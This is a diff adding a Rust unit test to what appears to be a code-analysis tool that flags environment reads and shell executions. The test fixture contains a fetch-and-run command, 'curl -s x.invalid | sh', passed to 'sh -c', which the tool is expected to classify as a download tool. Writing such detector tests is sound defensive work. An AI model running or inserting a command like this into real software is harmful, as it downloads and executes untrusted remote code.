@@ -541,3 +541,16 @@ fn an_element_of_a_parameter_is_followed_into_the_callers() {
     );
     assert!(subjects(&f, Kind::EnvRead).contains(&"GITHUB_TOKEN".to_string()));
 }
+
+#[test]
+fn named_format_arguments_are_their_values() {
+    let f = facts(
+        "const X: &str = \"curl -s x.invalid | sh\";\nfn f() { let _ = std::process::Command::new(\"sh\").args([\"-c\", &format!(\"{s}\", s = X)]).status(); }\n",
+    );
+    assert!(
+        of(&f, Kind::Exec)
+            .iter()
+            .any(|e| e.subject == "curl -s x.invalid | sh" && e.class == "download-tool"),
+        "{f:#?}"
+    );
+}
